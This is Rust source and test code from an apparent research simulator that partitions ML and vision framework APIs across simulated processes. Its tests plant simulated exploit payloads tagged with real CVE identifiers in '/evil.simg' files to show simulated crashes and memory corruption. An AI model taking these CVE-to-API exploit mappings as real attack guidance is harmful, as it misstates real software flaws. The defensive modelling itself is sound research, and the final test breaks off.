    /// Overwrites the payload in place (same length) or reallocates when
    /// the size changed.
    pub fn write_bytes(
        &mut self,
        kernel: &mut Kernel,
        id: ObjectId,
        data: &[u8],
    ) -> Result<(), SimError> {
        let meta = self.objects.get_mut(&id).expect("object id must be live");
        if let Some((seg, _)) = meta.shm {
            kernel.shm_write(meta.home, seg, data)?;
            meta.shm = Some((seg, data.len() as u64));
            return Ok(());
        }
        match meta.buffer {
            Some((addr, len)) if len == data.len() as u64 => {
                kernel.mem_write(meta.home, addr, data)
            }
            _ => {
                let addr = kernel.alloc(meta.home, data.len().max(1) as u64, Perms::RW)?;
                kernel.mem_write(meta.home, addr, data)?;
                meta.buffer = Some((addr, data.len() as u64));
                Ok(())
            }
        }
    }

    /// Moves an object's payload directly into `dst` (the LDC fast path:
    /// one cross-address-space copy, agent → agent).
    pub fn migrate_direct(
        &mut self,
        kernel: &mut Kernel,
        id: ObjectId,
        dst: Pid,
    ) -> Result<(), SimError> {
        let meta = self.objects.get(&id).expect("object id must be live");
        if meta.home == dst {
            return Ok(());
        }
        if let Some((seg, _)) = meta.shm {
            // Shm-resident payloads never move: hand `dst` a view.
            kernel.shm_grant(seg, dst, Perms::RW)?;
            kernel.shm_map(dst, seg)?;
            self.objects.get_mut(&id).expect("live").home = dst;
            return Ok(());
        }
        match meta.buffer {
            None => {
                self.objects.get_mut(&id).expect("live").home = dst;
                Ok(())
            }
            Some((addr, len)) => {
                let data = kernel.mem_read(meta.home, addr, len)?;
                let new_addr = kernel.alloc(dst, len.max(1), Perms::RW)?;
                kernel.mem_write(dst, new_addr, &data)?;
                kernel.charge_copy(len);
                let meta = self.objects.get_mut(&id).expect("live");
                meta.home = dst;
                meta.buffer = Some((new_addr, len));
                Ok(())
            }
        }
    }

    /// Promotes an object's private payload into a kernel-owned
    /// shared-memory segment (the `Shm` transport's one-time step).
    ///
    /// The segment adopts the payload — no byte copy is charged, only
    /// the owner's mapping cost — after which the private buffer is
    /// forgotten (`buffer = None`) and all access goes through grants.
    /// Buffer-less objects and already-promoted objects are no-ops.
    pub fn promote_to_shm(
        &mut self,
        kernel: &mut Kernel,
        id: ObjectId,
    ) -> Result<Option<ShmId>, SimError> {
        let meta = self.objects.get(&id).expect("object id must be live");
        if let Some((seg, _)) = meta.shm {
            return Ok(Some(seg));
        }
        let Some((addr, len)) = meta.buffer else {
            return Ok(None);
        };
        let home = meta.home;
        let data = kernel.mem_read(home, addr, len)?;
        let seg = kernel.shm_create(home, data)?;
        let meta = self.objects.get_mut(&id).expect("live");
        meta.buffer = None;
        meta.shm = Some((seg, len));
        Ok(Some(seg))
    }

    /// Moves an object's payload into `dst` *via* an intermediate process
    /// (the non-LDC path: two copies, src → host → dst), as eager
    /// marshalling would.
    pub fn migrate_via(
        &mut self,
        kernel: &mut Kernel,
        id: ObjectId,
        via: Pid,
        dst: Pid,
    ) -> Result<(), SimError> {
        let meta = self.objects.get(&id).expect("object id must be live");
        if meta.home == dst {
            return Ok(());
        }
        if let Some((seg, _)) = meta.shm {
            // A shared segment needs no intermediary hop either.
            kernel.shm_grant(seg, dst, Perms::RW)?;
            kernel.shm_map(dst, seg)?;
            self.objects.get_mut(&id).expect("live").home = dst;
            return Ok(());
        }
        match meta.buffer {
            None => {
                self.objects.get_mut(&id).expect("live").home = dst;
                Ok(())
            }
            Some((addr, len)) => {
                let data = kernel.mem_read(meta.home, addr, len)?;
                // Hop 1: into the intermediary.
                let via_addr = kernel.alloc(via, len.max(1), Perms::RW)?;
                kernel.mem_write(via, via_addr, &data)?;
                kernel.charge_copy(len);
                // Hop 2: into the destination.
                let dst_addr = kernel.alloc(dst, len.max(1), Perms::RW)?;
                kernel.mem_write(dst, dst_addr, &data)?;
                kernel.charge_copy(len);
                let meta = self.objects.get_mut(&id).expect("live");
                meta.home = dst;
                meta.buffer = Some((dst_addr, len));
                Ok(())
            }
        }
    }

    /// Duplicates an object's payload into `dst`, leaving the original in
    /// place (deep copy of an argument, as the paper's hooking does for
    /// `Mat` references).
    pub fn deep_copy_to(
        &mut self,
        kernel: &mut Kernel,
        id: ObjectId,
        dst: Pid,
    ) -> Result<ObjectId, SimError> {
        let meta = self
            .objects
            .get(&id)
            .expect("object id must be live")
            .clone();
        let new_id = if let Some((seg, len)) = meta.shm {
            // Duplication is a genuine copy even out of a segment.
            let data = kernel.shm_read(meta.home, seg)?;
            kernel.charge_copy(len);
            self.create_with_data(kernel, dst, meta.kind, &meta.label, &data)?
        } else {
            match meta.buffer {
                None => self.create_handle(dst, meta.kind, &meta.label),
                Some((addr, len)) => {
                    let data = kernel.mem_read(meta.home, addr, len)?;
                    kernel.charge_copy(len);
                    self.create_with_data(kernel, dst, meta.kind, &meta.label, &data)?
                }
            }
        };
        // Malformed content stays malformed when copied.
        self.objects.get_mut(&new_id).expect("just created").taint = meta.taint;
        Ok(new_id)
    }

    /// Drops an object (its buffer stays mapped; the simulation never
    /// reuses addresses, so dangling references fault realistically).
    pub fn destroy(&mut self, id: ObjectId) -> Option<ObjectMeta> {
        self.objects.remove(&id)
    }

    /// All live objects homed in `pid`.
    pub fn objects_in(&self, pid: Pid) -> Vec<ObjectId> {
        self.objects
            .values()
            .filter(|m| m.home == pid)
            .map(|m| m.id)
            .collect()
    }

    /// Number of live objects.
    pub fn len(&self) -> usize {
        self.objects.len()
    }

    /// The id the *next* created object will receive — a monotone
    /// watermark callers use to identify objects created during a window.
    pub fn next_id_watermark(&self) -> u64 {
        self.next
    }

    /// Ids of live objects created at or after `watermark` (a value
    /// previously returned by [`ObjectStore::next_id_watermark`]). Ids
    /// are monotone, so this is a range scan over just the tail of the
    /// store — O(new objects), not O(live objects).
    pub fn ids_since(&self, watermark: u64) -> impl Iterator<Item = ObjectId> + '_ {
        self.objects.range(ObjectId(watermark)..).map(|(id, _)| *id)
    }

    /// True when no objects are live.
    pub fn is_empty(&self) -> bool {
        self.objects.is_empty()
    }

    /// Iterator over all live objects.
    pub fn iter(&self) -> impl Iterator<Item = &ObjectMeta> {
        self.objects.values()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn setup() -> (Kernel, Pid, Pid, ObjectStore) {
        let mut k = Kernel::new();
        let a = k.spawn("a");
        let b = k.spawn("b");
        (k, a, b, ObjectStore::new())
    }

    #[test]
    fn ids_since_returns_only_the_tail() {
        let (mut k, a, _, mut store) = setup();
        let first = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "old", &[1])
            .unwrap();
        let mark = store.next_id_watermark();
        assert_eq!(store.ids_since(mark).count(), 0);
        let second = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "new", &[2])
            .unwrap();
        let tail: Vec<ObjectId> = store.ids_since(mark).collect();
        assert_eq!(tail, vec![second]);
        assert!(store.ids_since(0).any(|id| id == first));
    }

    #[test]
    fn create_and_read_roundtrip() {
        let (mut k, a, _, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[5, 6])
            .unwrap();
        assert_eq!(store.read_bytes(&mut k, id).unwrap(), vec![5, 6]);
        assert_eq!(store.meta(id).unwrap().len(), 2);
        assert_eq!(store.meta(id).unwrap().home, a);
    }

    #[test]
    fn write_bytes_realloc_on_resize() {
        let (mut k, a, _, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[1])
            .unwrap();
        store.write_bytes(&mut k, id, &[7, 8, 9]).unwrap();
        assert_eq!(store.read_bytes(&mut k, id).unwrap(), vec![7, 8, 9]);
    }

    #[test]
    fn migrate_direct_charges_one_copy() {
        let (mut k, a, b, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[1; 2048])
            .unwrap();
        let before = k.metrics();
        store.migrate_direct(&mut k, id, b).unwrap();
        let d = k.metrics().since(&before);
        assert_eq!(d.copy_ops, 1);
        assert_eq!(d.copied_bytes, 2048);
        assert_eq!(store.meta(id).unwrap().home, b);
        assert_eq!(store.read_bytes(&mut k, id).unwrap(), vec![1; 2048]);
    }

    #[test]
    fn migrate_via_charges_two_copies() {
        let (mut k, a, b, mut store) = setup();
        let host = k.spawn("host");
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[2; 1024])
            .unwrap();
        let before = k.metrics();
        store.migrate_via(&mut k, id, host, b).unwrap();
        let d = k.metrics().since(&before);
        assert_eq!(d.copy_ops, 2);
        assert_eq!(d.copied_bytes, 2048);
        assert_eq!(store.meta(id).unwrap().home, b);
    }

    #[test]
    fn migrate_to_same_home_is_free() {
        let (mut k, a, _, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[0; 512])
            .unwrap();
        let before = k.metrics();
        store.migrate_direct(&mut k, id, a).unwrap();
        assert_eq!(k.metrics().since(&before).copy_ops, 0);
    }

    #[test]
    fn deep_copy_leaves_original() {
        let (mut k, a, b, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[3, 4])
            .unwrap();
        let dup = store.deep_copy_to(&mut k, id, b).unwrap();
        assert_ne!(id, dup);
        assert_eq!(store.meta(id).unwrap().home, a);
        assert_eq!(store.meta(dup).unwrap().home, b);
        assert_eq!(store.read_bytes(&mut k, dup).unwrap(), vec![3, 4]);
    }

    #[test]
    fn labels_and_lookup() {
        let (mut k, a, _, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "tmp", &[0])
            .unwrap();
        store.set_label(id, "template");
        assert_eq!(store.find_by_label("template").unwrap().id, id);
        assert!(store.find_by_label("nope").is_none());
    }

    #[test]
    fn objects_in_filters_by_home() {
        let (mut k, a, b, mut store) = setup();
        let x = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[0])
            .unwrap();
        let y = store
            .create_with_data(&mut k, b, ObjectKind::Blob, "y", &[0])
            .unwrap();
        assert_eq!(store.objects_in(a), vec![x]);
        assert_eq!(store.objects_in(b), vec![y]);
    }

    #[test]
    fn promote_to_shm_moves_payload_without_copying() {
        let (mut k, a, b, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[4; 8192])
            .unwrap();
        let before = k.metrics();
        let seg = store.promote_to_shm(&mut k, id).unwrap().unwrap();
        let d = k.metrics().since(&before);
        assert_eq!(d.copied_bytes, 0, "promotion adopts pages, never copies");
        assert_eq!(d.shm_grants, 1);
        assert_eq!(d.shm_mapped_bytes, 8192);
        let m = store.meta(id).unwrap();
        assert!(m.buffer.is_none());
        assert_eq!(m.shm, Some((seg, 8192)));
        assert_eq!(m.len(), 8192);
        assert!(!m.is_empty());
        // Idempotent.
        assert_eq!(store.promote_to_shm(&mut k, id).unwrap(), Some(seg));

        // Migration of a promoted object grants a view instead of copying.
        let before = k.metrics();
        store.migrate_direct(&mut k, id, b).unwrap();
        let d = k.metrics().since(&before);
        assert_eq!(d.copied_bytes, 0);
        assert_eq!(d.shm_grants, 1);
        assert_eq!(store.meta(id).unwrap().home, b);
        assert_eq!(store.read_bytes(&mut k, id).unwrap(), vec![4; 8192]);
    }

    #[test]
    fn shm_resident_write_and_resize_roundtrip() {
        let (mut k, a, _, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[1, 2, 3])
            .unwrap();
        store.promote_to_shm(&mut k, id).unwrap();
        store.write_bytes(&mut k, id, &[9; 10]).unwrap();
        assert_eq!(store.read_bytes(&mut k, id).unwrap(), vec![9; 10]);
        assert_eq!(store.meta(id).unwrap().len(), 10);
    }

    #[test]
    fn deep_copy_out_of_shm_charges_a_real_copy() {
        let (mut k, a, b, mut store) = setup();
        let id = store
            .create_with_data(&mut k, a, ObjectKind::Blob, "x", &[7; 2048])
            .unwrap();
        store.promote_to_shm(&mut k, id).unwrap();
        let before = k.metrics();
        let dup = store.deep_copy_to(&mut k, id, b).unwrap();
        assert_eq!(k.metrics().since(&before).copied_bytes, 2048);
        assert_eq!(store.meta(dup).unwrap().home, b);
        assert!(store.meta(dup).unwrap().shm.is_none());
        assert_eq!(store.read_bytes(&mut k, dup).unwrap(), vec![7; 2048]);
    }

    #[test]
    fn promote_buffer_less_object_is_none() {
        let (mut k, a, _, mut store) = setup();
        let id = store.create_handle(a, ObjectKind::Blob, "h");
        assert_eq!(store.promote_to_shm(&mut k, id).unwrap(), None);
    }

    #[test]
    fn natural_len_for_mats_and_tensors() {
        assert_eq!(
            ObjectKind::Mat { w: 4, h: 3, ch: 3 }.natural_len(),
            Some(36)
        );
        assert_eq!(
            ObjectKind::Tensor { shape: vec![2, 3] }.natural_len(),
            Some(24)
        );
        assert_eq!(ObjectKind::Blob.natural_len(), None);
    }
}
