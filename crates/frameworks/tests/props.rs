//! Property tests of the framework layer: decode fuzzing, random
//! pipeline chains through the executor, and taint-propagation
//! monotonicity.

use freepart_frameworks::api::{ApiKind, ApiType};
use freepart_frameworks::exec::execute;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, ApiCtx, ObjectStore, Value};
use freepart_simos::Kernel;
use proptest::prelude::*;

proptest! {
    /// The file decoders must never panic on arbitrary bytes — crafted
    /// inputs are the threat model's entry point.
    #[test]
    fn decoders_never_panic_on_garbage(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        let _ = fileio::decode_image(&bytes);
        let _ = fileio::decode_tensor(&bytes);
        let _ = fileio::scan_payload(&bytes);
        let _ = fileio::decode_csv(&bytes);
    }

    /// A truncated valid image never decodes successfully into a
    /// *different* image (no silent corruption).
    #[test]
    fn truncated_images_fail_loudly(w in 1u32..16, h in 1u32..16, cut in 1usize..64) {
        let img = Image::new(w, h, 3);
        let bytes = fileio::encode_image(&img, None);
        let cut = cut.min(bytes.len().saturating_sub(1));
        let truncated = &bytes[..bytes.len() - cut];
        match fileio::decode_image(truncated) {
            Err(_) => {}
            Ok((decoded, _)) => prop_assert_eq!(decoded, img, "same-prefix decode must agree"),
        }
    }

    /// Random chains of unary image filters through the real executor:
    /// every step yields a live Mat, no panics, no leaked faults, and
    /// the process stays alive.
    #[test]
    fn random_filter_chains_execute_cleanly(
        picks in proptest::collection::vec(any::<u16>(), 1..12),
        side in 4u32..24,
    ) {
        let reg = standard_registry();
        let filters: Vec<_> = reg
            .iter()
            .filter(|s| matches!(s.kind, ApiKind::Filter(_)))
            .map(|s| s.id)
            .collect();
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("chain");
        let mut objects = ObjectStore::new();
        kernel.fs.put(
            "/in.simg",
            fileio::encode_image(&Image::new(side, side, 3), None),
        );
        let imread = reg.id_of("cv2.imread").unwrap();
        let mut ctx = ApiCtx::new(&mut kernel, &mut objects, pid);
        let mut cur = execute(&reg, imread, &[Value::from("/in.simg")], &mut ctx).unwrap();
        for p in picks {
            let api = filters[p as usize % filters.len()];
            cur = execute(&reg, api, &[cur], &mut ctx).unwrap();
            let id = cur.as_obj().expect("filters return Mats");
            let meta = ctx.objects.meta(id).expect("live object");
            prop_assert!(!meta.is_empty());
        }
        prop_assert!(ctx.kernel.is_running(pid));
        prop_assert!(ctx.exploit_log.is_empty());
    }

    /// Taint is monotone along filter chains: once malformed content
    /// enters, every derived Mat carries the taint until a vulnerable
    /// API consumes it.
    #[test]
    fn taint_propagates_through_chains(picks in proptest::collection::vec(any::<u16>(), 1..8)) {
        use freepart_frameworks::{ExploitAction, ExploitPayload};
        let reg = standard_registry();
        let filters: Vec<_> = reg
            .iter()
            .filter(|s| matches!(s.kind, ApiKind::Filter(_)) && s.vulns.is_empty())
            .map(|s| s.id)
            .collect();
        let payload = ExploitPayload {
            cve: "CVE-2019-14491".into(), // no filter is vulnerable to it
            actions: vec![ExploitAction::CrashSelf],
        };
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("chain");
        let mut objects = ObjectStore::new();
        kernel.fs.put(
            "/evil.simg",
            fileio::encode_image(&Image::new(8, 8, 3), Some(&payload)),
        );
        let imread = reg.id_of("cv2.imread").unwrap();
        let mut ctx = ApiCtx::new(&mut kernel, &mut objects, pid);
        let mut cur = execute(&reg, imread, &[Value::from("/evil.simg")], &mut ctx).unwrap();
        for p in picks {
            let api = filters[p as usize % filters.len()];
            cur = execute(&reg, api, &[cur], &mut ctx).unwrap();
            let meta = ctx.objects.meta(cur.as_obj().unwrap()).unwrap();
            prop_assert!(meta.taint.is_some(), "taint dropped by {}", reg.spec(api).name);
        }
        prop_assert!(ctx.kernel.is_running(pid), "benign APIs never fire the payload");
    }

    /// The registry's declared types always agree with the types the
    /// kind-derivation computes, for any subset ordering (registry
    /// integrity under iteration).
    #[test]
    fn registry_type_consistency(sample in proptest::collection::vec(any::<u16>(), 1..30)) {
        use freepart_frameworks::registry::type_of_kind;
        let reg = standard_registry();
        let n = reg.len() as u16;
        for s in sample {
            let spec = reg.spec(freepart_frameworks::ApiId(s % n));
            prop_assert_eq!(spec.declared_type, type_of_kind(&spec.kind));
            // Visualizing APIs are exactly the GUI-kind ones.
            let is_gui = matches!(
                spec.kind,
                ApiKind::ImShow | ApiKind::Window(_) | ApiKind::PlotShow | ApiKind::GuiStateRead
            );
            prop_assert_eq!(spec.declared_type == ApiType::Visualizing, is_gui);
        }
    }
}
