//! End-to-end tests of framework-API execution: real pipelines, syscall
//! traffic, exploit triggering, and locality discipline.

use freepart_frameworks::exec::{execute, FrameworkError, CAMERA_FRAME_LEN};
use freepart_frameworks::fileio;
use freepart_frameworks::image::Image;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::tensor::Tensor;
use freepart_frameworks::{
    ApiCtx, ApiRegistry, ExploitAction, ExploitPayload, ObjectKind, ObjectStore, Value,
};
use freepart_simos::device::Camera;
use freepart_simos::{Kernel, Pid};

struct Rig {
    reg: ApiRegistry,
    kernel: Kernel,
    objects: ObjectStore,
    pid: Pid,
}

impl Rig {
    fn new() -> Rig {
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("host");
        Rig {
            reg: standard_registry(),
            kernel,
            objects: ObjectStore::new(),
            pid,
        }
    }

    fn call(&mut self, name: &str, args: &[Value]) -> Result<Value, FrameworkError> {
        let id = self
            .reg
            .id_of(name)
            .unwrap_or_else(|| panic!("no API {name}"));
        let mut ctx = ApiCtx::new(&mut self.kernel, &mut self.objects, self.pid);
        execute(&self.reg, id, args, &mut ctx)
    }

    fn seed_image(&mut self, path: &str, w: u32, h: u32) {
        let mut img = Image::new(w, h, 3);
        for y in 0..h {
            for x in 0..w {
                for c in 0..3 {
                    img.put(x, y, c, ((x * 17 + y * 31 + c * 7) % 256) as u8);
                }
            }
        }
        self.kernel.fs.put(path, fileio::encode_image(&img, None));
    }
}

#[test]
fn imread_filter_imwrite_pipeline() {
    let mut rig = Rig::new();
    rig.seed_image("/in.simg", 16, 16);
    let img = rig.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let gray = rig
        .call("cv2.cvtColor", std::slice::from_ref(&img))
        .unwrap();
    let blurred = rig.call("cv2.GaussianBlur", &[gray]).unwrap();
    rig.call("cv2.imwrite", &[Value::from("/out.simg"), blurred])
        .unwrap();
    let out = rig.kernel.fs.get("/out.simg").expect("output written");
    let (decoded, _) = fileio::decode_image(out).unwrap();
    assert_eq!((decoded.w, decoded.h, decoded.ch), (16, 16, 1));
}

#[test]
fn imread_missing_file_is_errno_not_crash() {
    let mut rig = Rig::new();
    let err = rig
        .call("cv2.imread", &[Value::from("/absent.simg")])
        .unwrap_err();
    assert!(!err.is_crash());
    assert!(rig.kernel.is_running(rig.pid));
}

#[test]
fn imread_garbage_is_parse_error() {
    let mut rig = Rig::new();
    rig.kernel.fs.put("/junk", b"not an image".to_vec());
    let err = rig.call("cv2.imread", &[Value::from("/junk")]).unwrap_err();
    assert!(matches!(err, FrameworkError::Parse(_)));
}

#[test]
fn camera_capture_pipeline() {
    let mut rig = Rig::new();
    rig.kernel.camera = Some(Camera::new(7, CAMERA_FRAME_LEN));
    let cap = rig.call("cv2.VideoCapture", &[Value::I64(0)]).unwrap();
    let f1 = rig
        .call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    let f2 = rig
        .call("cv2.VideoCapture.read", std::slice::from_ref(&cap))
        .unwrap();
    assert!(matches!(f1, Value::Obj(_)));
    // Stateful capture advanced.
    let meta = rig.objects.meta(cap.as_obj().unwrap()).unwrap();
    assert_eq!(meta.kind, ObjectKind::Capture { frames_read: 2 });
    // Frames are distinct camera outputs.
    let b1 = rig
        .objects
        .read_bytes(&mut rig.kernel, f1.as_obj().unwrap())
        .unwrap();
    let b2 = rig
        .objects
        .read_bytes(&mut rig.kernel, f2.as_obj().unwrap())
        .unwrap();
    assert_ne!(b1, b2);
}

#[test]
fn imshow_presents_to_display_and_connects_once() {
    let mut rig = Rig::new();
    rig.seed_image("/in.simg", 8, 8);
    let img = rig.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rig.call("cv2.imshow", &[Value::from("win"), img.clone()])
        .unwrap();
    rig.call("cv2.imshow", &[Value::from("win"), img]).unwrap();
    assert!(rig.kernel.display.is_connected());
    assert_eq!(rig.kernel.display.window_count(), 1);
    let win = rig.kernel.display.find_window("win").unwrap();
    assert_eq!(rig.kernel.display.window(win).unwrap().presents, 2);
    // Only one gui socket was opened across the two calls.
    let gui_socks = rig.kernel.process(rig.pid).unwrap().open_fds().count();
    assert_eq!(gui_socks, 1);
}

#[test]
fn detect_multiscale_and_contours_return_rects() {
    let mut rig = Rig::new();
    rig.seed_image("/in.simg", 32, 32);
    rig.kernel.fs.put("/cascade.xml", vec![5; 64]);
    let clf = rig
        .call("cv2.CascadeClassifier.load", &[Value::from("/cascade.xml")])
        .unwrap();
    let img = rig.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let hits = rig
        .call(
            "cv2.CascadeClassifier.detectMultiScale",
            &[clf, img.clone()],
        )
        .unwrap();
    assert!(matches!(hits, Value::Rects(_)));
    let thresh = rig.call("cv2.threshold", &[img]).unwrap();
    let contours = rig.call("cv2.findContours", &[thresh]).unwrap();
    assert!(matches!(contours, Value::Rects(_)));
}

#[test]
fn drawing_apis_mutate_in_place() {
    let mut rig = Rig::new();
    rig.seed_image("/in.simg", 16, 16);
    let img = rig.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    let before = rig
        .objects
        .read_bytes(&mut rig.kernel, img.as_obj().unwrap())
        .unwrap();
    rig.call(
        "cv2.rectangle",
        &[
            img.clone(),
            Value::I64(2),
            Value::I64(2),
            Value::I64(6),
            Value::I64(6),
        ],
    )
    .unwrap();
    rig.call(
        "cv2.putText",
        &[
            img.clone(),
            Value::from("ok"),
            Value::I64(1),
            Value::I64(10),
        ],
    )
    .unwrap();
    let after = rig
        .objects
        .read_bytes(&mut rig.kernel, img.as_obj().unwrap())
        .unwrap();
    assert_ne!(before, after);
}

#[test]
fn tensor_pipeline_forward_and_train() {
    let mut rig = Rig::new();
    let weights = Tensor::generate(&[64], |i| (i as f32 * 0.1).cos());
    rig.kernel
        .fs
        .put("/model.stsr", fileio::encode_tensor(&weights, None));
    let model = rig
        .call("torch.load", &[Value::from("/model.stsr")])
        .unwrap();
    let input = rig.call("torch.tensor", &[Value::I64(64)]).unwrap();
    let probs = rig
        .call("torch.nn.Module.forward", &[model.clone(), input.clone()])
        .unwrap();
    let meta = rig.objects.meta(probs.as_obj().unwrap()).unwrap();
    assert_eq!(meta.kind, ObjectKind::Tensor { shape: vec![10] });
    // argmax over the 10 probabilities.
    let cls = rig.call("torch.argmax", &[probs]).unwrap();
    assert!(matches!(cls, Value::I64(c) if (0..10).contains(&c)));
    // Training mutates the model object in place.
    let w_before = rig
        .objects
        .read_bytes(&mut rig.kernel, model.as_obj().unwrap())
        .unwrap();
    rig.call(
        "torch.optim.SGD.step",
        &[model.clone(), input, Value::F64(1.0)],
    )
    .unwrap();
    let w_after = rig
        .objects
        .read_bytes(&mut rig.kernel, model.as_obj().unwrap())
        .unwrap();
    assert_ne!(w_before, w_after);
}

#[test]
fn download_via_file_leaves_temp_file() {
    let mut rig = Rig::new();
    let blob = rig
        .call("tf.keras.utils.get_file", &[Value::from("http://weights")])
        .unwrap();
    assert!(matches!(blob, Value::Obj(_)));
    // The temp file exists — the copy-via-file idiom really happened.
    assert!(!rig.kernel.fs.list("/tmp/").is_empty());
}

#[test]
fn dataset_load_reads_directory() {
    let mut rig = Rig::new();
    rig.seed_image("/data/0.simg", 4, 4);
    rig.seed_image("/data/1.simg", 4, 4);
    let batch = rig
        .call(
            "tf.keras.preprocessing.image_dataset_from_directory",
            &[Value::from("/data/")],
        )
        .unwrap();
    let meta = rig.objects.meta(batch.as_obj().unwrap()).unwrap();
    // 2 images × 4×4×3 floats.
    assert_eq!(meta.kind, ObjectKind::Tensor { shape: vec![96] });
}

#[test]
fn csv_roundtrip_via_pandas() {
    let mut rig = Rig::new();
    rig.kernel.fs.put(
        "/t.csv",
        fileio::encode_csv(&[vec![1.0, 2.0], vec![3.0, 4.0]]),
    );
    let table = rig.call("pd.read_csv", &[Value::from("/t.csv")]).unwrap();
    let meta = rig.objects.meta(table.as_obj().unwrap()).unwrap();
    assert_eq!(meta.kind, ObjectKind::Table { rows: 2, cols: 2 });
    rig.call("pd.DataFrame.to_csv", &[Value::from("/out.csv"), table])
        .unwrap();
    assert_eq!(
        fileio::decode_csv(rig.kernel.fs.get("/out.csv").unwrap()),
        vec![vec![1.0, 2.0], vec![3.0, 4.0]]
    );
}

#[test]
fn plot_pipeline_show_and_save() {
    let mut rig = Rig::new();
    let fig = rig
        .call(
            "plt.plot",
            &[Value::List(vec![Value::F64(1.0), Value::F64(2.0)])],
        )
        .unwrap();
    rig.call("plt.show", std::slice::from_ref(&fig)).unwrap();
    assert!(rig.kernel.display.is_connected());
    rig.call("plt.savefig", &[Value::from("/fig.png"), fig])
        .unwrap();
    assert!(rig.kernel.fs.exists("/fig.png"));
}

#[test]
fn remote_object_access_is_rejected() {
    let mut rig = Rig::new();
    rig.seed_image("/in.simg", 8, 8);
    let img = rig.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    // Move the payload to another process; calling from `pid` must fail
    // loudly rather than silently reading across address spaces.
    let other = rig.kernel.spawn("other");
    rig.objects
        .migrate_direct(&mut rig.kernel, img.as_obj().unwrap(), other)
        .unwrap();
    let err = rig.call("cv2.GaussianBlur", &[img]).unwrap_err();
    assert!(matches!(err, FrameworkError::RemoteObject(_)));
}

#[test]
fn vulnerable_imread_fires_payload_patched_loader_taints() {
    let mut rig = Rig::new();
    let payload = ExploitPayload {
        cve: "CVE-2017-14136".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    let img = Image::new(8, 8, 3);
    rig.kernel
        .fs
        .put("/evil.simg", fileio::encode_image(&img, Some(&payload)));
    // cv2.imread IS vulnerable to this CVE → DoS succeeds, process dies.
    let err = rig
        .call("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap_err();
    assert!(err.is_crash());
    assert!(!rig.kernel.is_running(rig.pid));

    // A *patched* loader (PIL.Image.open is not vulnerable to this CVE)
    // survives but carries the malformed content as taint.
    let mut rig = Rig::new();
    rig.kernel
        .fs
        .put("/evil.simg", fileio::encode_image(&img, Some(&payload)));
    let loaded = rig
        .call("PIL.Image.open", &[Value::from("/evil.simg")])
        .unwrap();
    assert!(rig.kernel.is_running(rig.pid));
    let meta = rig.objects.meta(loaded.as_obj().unwrap()).unwrap();
    assert_eq!(meta.taint.as_ref().unwrap().cve, "CVE-2017-14136");
}

#[test]
fn taint_propagates_and_fires_in_vulnerable_processing_api() {
    let mut rig = Rig::new();
    let payload = ExploitPayload {
        cve: "CVE-2019-14491".into(),
        actions: vec![ExploitAction::CrashSelf],
    };
    let img = Image::new(32, 32, 3);
    rig.kernel
        .fs
        .put("/evil.simg", fileio::encode_image(&img, Some(&payload)));
    // imread is NOT vulnerable to 14491 in our catalog? It is not listed,
    // so loading succeeds with taint.
    let loaded = rig
        .call("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap();
    // Filter propagates taint.
    let gray = rig.call("cv2.cvtColor", &[loaded]).unwrap();
    assert!(rig
        .objects
        .meta(gray.as_obj().unwrap())
        .unwrap()
        .taint
        .is_some());
    // detectMultiScale IS vulnerable to CVE-2019-14491 → crash.
    rig.kernel.fs.put("/c.xml", vec![1; 16]);
    let clf = rig
        .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
        .unwrap();
    let err = rig
        .call("cv2.CascadeClassifier.detectMultiScale", &[clf, gray])
        .unwrap_err();
    assert!(err.is_crash());
}

#[test]
fn exploit_corruption_without_crash_lets_api_complete() {
    let mut rig = Rig::new();
    // A writable "critical variable" in the same process.
    let victim = rig
        .kernel
        .alloc(rig.pid, 8, freepart_simos::Perms::RW)
        .unwrap();
    rig.kernel.mem_write(rig.pid, victim, b"GOODDATA").unwrap();
    let payload = ExploitPayload {
        cve: "CVE-2017-12597".into(),
        actions: vec![ExploitAction::WriteMem {
            addr: victim.0,
            bytes: b"BADBYTES".to_vec(),
        }],
    };
    let img = Image::new(8, 8, 3);
    rig.kernel
        .fs
        .put("/evil.simg", fileio::encode_image(&img, Some(&payload)));
    let loaded = rig
        .call("cv2.imread", &[Value::from("/evil.simg")])
        .unwrap();
    // The API completed (returned an object) *and* the corruption landed:
    // no isolation in a monolithic process.
    assert!(matches!(loaded, Value::Obj(_)));
    assert_eq!(
        rig.kernel.mem_read(rig.pid, victim, 8).unwrap(),
        b"BADBYTES"
    );
}

#[test]
fn gui_state_read_returns_window_titles() {
    let mut rig = Rig::new();
    rig.seed_image("/in.simg", 8, 8);
    let img = rig.call("cv2.imread", &[Value::from("/in.simg")]).unwrap();
    rig.call("cv2.imshow", &[Value::from("recent-secret.png"), img])
        .unwrap();
